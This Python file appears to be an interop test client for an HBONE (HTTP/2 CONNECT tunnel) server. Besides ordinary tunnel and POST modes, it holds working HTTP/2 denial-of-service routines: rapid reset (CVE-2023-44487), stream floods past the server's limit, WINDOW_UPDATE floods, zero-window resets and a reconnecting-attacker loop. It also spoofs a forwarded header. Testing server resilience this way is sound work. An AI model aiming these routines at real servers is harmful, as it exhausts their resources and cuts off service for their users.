"""An independent HBONE client for interop tests, on python3-h2 (not Node's HTTP/2).

usage: hbone_client.py HOST PORT CERT_DIR AUTHORITY tunnel  -> CONNECT, send, half-close, read the echo
       hbone_client.py HOST PORT CERT_DIR AUTHORITY flood N -> open N streams at once, ignoring the peer's limit
       hbone_client.py HOST PORT CERT_DIR AUTHORITY abandon -> CONNECT, one echo, then drop the TCP connection
       hbone_client.py HOST PORT CERT_DIR AUTHORITY rapid-reset N -> open and reset N streams at once (CVE-2023-44487)
       hbone_client.py HOST PORT CERT_DIR AUTHORITY rapid-reset-loop N SECONDS -> rapid reset, reconnecting for SECONDS
       hbone_client.py HOST PORT CERT_DIR AUTHORITY window-flood SECONDS -> WINDOW_UPDATE frames, as fast as possible
       hbone_client.py HOST PORT CERT_DIR AUTHORITY window-flood-loop SECONDS -> the same, reconnecting for SECONDS
       hbone_client.py HOST PORT CERT_DIR AUTHORITY zero-window-reset N -> N tunnels with data queued, then reset
       hbone_client.py HOST PORT CERT_DIR AUTHORITY post -> a POST-mode tunnel (target in x-tun): its status
Every tunnel claims `forwarded: for="192.0.2.10:4242"`, an address that is not the client's.
Prints one JSON object with what happened.

h2 4.x validates every request as if it carried :path and :scheme; a plain CONNECT (RFC 9113
§8.5, what HBONE sends) has neither, so that one check is turned off.
"""
import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.settings


def connect(host, port, cert_dir):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False  # peers are named by SPIFFE ID, not DNS
    ctx.load_verify_locations(f"{cert_dir}/root-cert.pem")
    ctx.load_cert_chain(f"{cert_dir}/cert-chain.pem", f"{cert_dir}/key.pem")
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=10))
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def pump(sock, conn):
    data = sock.recv(65536)
    if not data:
        raise EOFError("connection closed")
    events = conn.receive_data(data)
    out = conn.data_to_send()
    if out:
        sock.sendall(out)
    return events


def tunnel(sock, conn, authority):
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, [(":method", "CONNECT"), (":authority", authority),
                               ("forwarded", 'for="192.0.2.10:4242"'), ("baggage", "k8s.namespace.name=interop")])
    sock.sendall(conn.data_to_send())
    result = {"status": None, "echo": "", "ended": False, "reset": None}
    sent = False
    while not result["ended"] and result["reset"] is None:
        for event in pump(sock, conn):
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream:
                result["status"] = int(dict(event.headers)[":status"])
                if result["status"] == 200 and not sent:
                    conn.send_data(stream, b"hello from python-h2", end_stream=True)  # half-close
                    sock.sendall(conn.data_to_send())
                    sent = True
                elif result["status"] != 200:
                    result["ended"] = True
            elif isinstance(event, h2.events.DataReceived) and event.stream_id == stream:
                result["echo"] += event.data.decode()
                conn.acknowledge_received_data(event.flow_controlled_length, stream)
                sock.sendall(conn.data_to_send())
            elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                result["ended"] = True
            elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                result["reset"] = int(event.error_code)
    return result


def open_beyond_limit(sock, conn, authority, count):
    # Pretend the server's stream limit is far higher, as a hostile client would, and open
    # `count` CONNECT streams at once.
    conn.remote_settings.update({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100000})
    conn.remote_settings.acknowledge()
    for _ in range(count):
        conn.send_headers(conn.get_next_available_stream_id(), [(":method", "CONNECT"), (":authority", authority)])
    sock.sendall(conn.data_to_send())


def flood(sock, conn, authority, count):
    # Wait for the server's SETTINGS, then open every stream at once, past its limit.
    advertised = None
    while advertised is None:
        for event in pump(sock, conn):
            if isinstance(event, h2.events.RemoteSettingsChanged):
                advertised = conn.remote_settings.max_concurrent_streams
    open_beyond_limit(sock, conn, authority, count)
    outcome = {}
    closed = False
    try:
        while len(outcome) < count:
            for event in pump(sock, conn):
                if isinstance(event, h2.events.ResponseReceived):
                    outcome[event.stream_id] = dict(event.headers)[":status"]
                elif isinstance(event, h2.events.StreamReset):
                    outcome[event.stream_id] = f"reset:{int(event.error_code)}"
                elif isinstance(event, h2.events.ConnectionTerminated):
                    closed = True
    except (EOFError, ConnectionError, OSError):
        closed = True
    values = list(outcome.values())
    return {"advertised": advertised, "ok": values.count("200"), "refused": sum(1 for v in values if v == "reset:7"), "closed": closed}


def abandon(sock, conn, authority):
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, [(":method", "CONNECT"), (":authority", authority)])
    sock.sendall(conn.data_to_send())
    result = {"status": None, "echo": ""}
    while not result["echo"]:
        for event in pump(sock, conn):
            if isinstance(event, h2.events.ResponseReceived):
                result["status"] = int(dict(event.headers)[":status"])
                conn.send_data(stream, b"ping")
                sock.sendall(conn.data_to_send())
            elif isinstance(event, h2.events.DataReceived):
                result["echo"] += event.data.decode()
    # Gone without END_STREAM, RST_STREAM or GOAWAY: only the TCP FIN tells.
    sock.close()
    return result


def window_flood(sock, conn, authority, seconds):
    # WINDOW_UPDATE frames as fast as the socket takes them, for at most `seconds`: each is
    # cheap to send and, unbounded, costs the server a core.
    import time
    until = time.monotonic() + float(seconds)
    frames = 0
    try:
        while time.monotonic() < until:
            for _ in range(1000):
                conn.increment_flow_control_window(1)
            sock.sendall(conn.data_to_send())
            frames += 1000
        return {"frames": frames, "closed": False}
    except (ConnectionError, OSError, ssl.SSLError):
        return {"frames": frames, "closed": True}


def zero_window_reset(sock, conn, authority, count):
    # Open `count` tunnels with a receive window of zero, so everything the server sends back
    # queues; send data the echo app answers, then reset every stream. The server must free each
    # tunnel and its app connection at once.
    import time
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    sock.sendall(conn.data_to_send())
    open_beyond_limit(sock, conn, authority, count)
    status = {}
    until = time.monotonic() + 10
    while len(status) < count and time.monotonic() < until:
        for event in pump(sock, conn):
            if isinstance(event, h2.events.ResponseReceived):
                status[event.stream_id] = int(dict(event.headers)[":status"])
            elif isinstance(event, h2.events.StreamReset):
                status[event.stream_id] = f"reset:{int(event.error_code)}"
    ok = [sid for sid, st in status.items() if st == 200]
    for sid in ok:
        conn.send_data(sid, b"x" * 16384)
    sock.sendall(conn.data_to_send())
    time.sleep(0.5)
    for sid in ok:
        conn.reset_stream(sid, error_code=8)
    sock.sendall(conn.data_to_send())
    time.sleep(0.3)
    return {"ok": len(ok), "refused": sum(1 for st in status.values() if st != 200)}


def post(sock, conn, authority):
    # POST mode: the server must authorize this outer peer before it answers anything.
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, [(":method", "POST"), (":scheme", "https"), (":path", "/"),
                               (":authority", authority), ("x-tun", authority)])
    sock.sendall(conn.data_to_send())
    while True:
        for event in pump(sock, conn):
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream:
                return {"status": int(dict(event.headers)[":status"])}
            if isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                return {"status": None, "reset": int(event.error_code)}


def rapid_reset(sock, conn, authority, count):
    # Each stream is opened and reset at once, before any answer: the server must not do the
    # work (dial the app) for each, and must close the connection past its limit.
    sent = 0
    closed = False
    try:
        for _ in range(count):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "CONNECT"), (":authority", authority)])
            conn.reset_stream(sid, error_code=8)
            sock.sendall(conn.data_to_send())
            sent += 1
        while True:
            for event in pump(sock, conn):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return {"sent": sent, "closed": True, "error_code": int(event.error_code)}
    except (EOFError, ConnectionError, OSError):
        closed = True
    return {"sent": sent, "closed": closed, "error_code": None}


def reconnecting(host, port, cert_dir, seconds, attack):
    # A reconnecting attacker: `attack(sock, conn, seconds_left)` on a connection until the server
    # closes it, then at once again on a new one, for `seconds`. Connections refused before or
    # during TLS are counted apart: that is the source's penalty working.
    import time
    outcome = {"connections": 0, "refused": 0, "goaways": 0, "sent": 0}
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            sock, conn = connect(host, port, cert_dir)
        except (OSError, ssl.SSLError, AssertionError):
            outcome["refused"] += 1
            continue
        outcome["connections"] += 1
        result = attack(sock, conn, until - time.monotonic())
        outcome["sent"] += result.get("sent", result.get("frames", 0))
        outcome["goaways"] += 1 if result.get("error_code") == 11 or result.get("closed") else 0
        sock.close()
    return outcome


if __name__ == "__main__":
    host, port, cert_dir, authority, mode = sys.argv[1:6]
    if mode == "rapid-reset-loop":
        count = int(sys.argv[6])
        reset = lambda sock, conn, left: rapid_reset(sock, conn, authority, count)
        print(json.dumps(reconnecting(host, int(port), cert_dir, float(sys.argv[7]), reset)))
        sys.exit(0)
    if mode == "window-flood-loop":
        flood = lambda sock, conn, left: window_flood(sock, conn, authority, max(left, 0))
        print(json.dumps(reconnecting(host, int(port), cert_dir, float(sys.argv[6]), flood)))
        sys.exit(0)
    sock, conn = connect(host, int(port), cert_dir)
    if mode == "tunnel":
        result = tunnel(sock, conn, authority)
    elif mode == "abandon":
        result = abandon(sock, conn, authority)
    elif mode == "zero-window-reset":
        result = zero_window_reset(sock, conn, authority, int(sys.argv[6]))
    elif mode == "window-flood":
        result = window_flood(sock, conn, authority, sys.argv[6])
    elif mode == "post":
        result = post(sock, conn, authority)
    elif mode == "rapid-reset":
        result = rapid_reset(sock, conn, authority, int(sys.argv[6]))
    else:
        result = flood(sock, conn, authority, int(sys.argv[6]))
    print(json.dumps(result))
    sock.close()
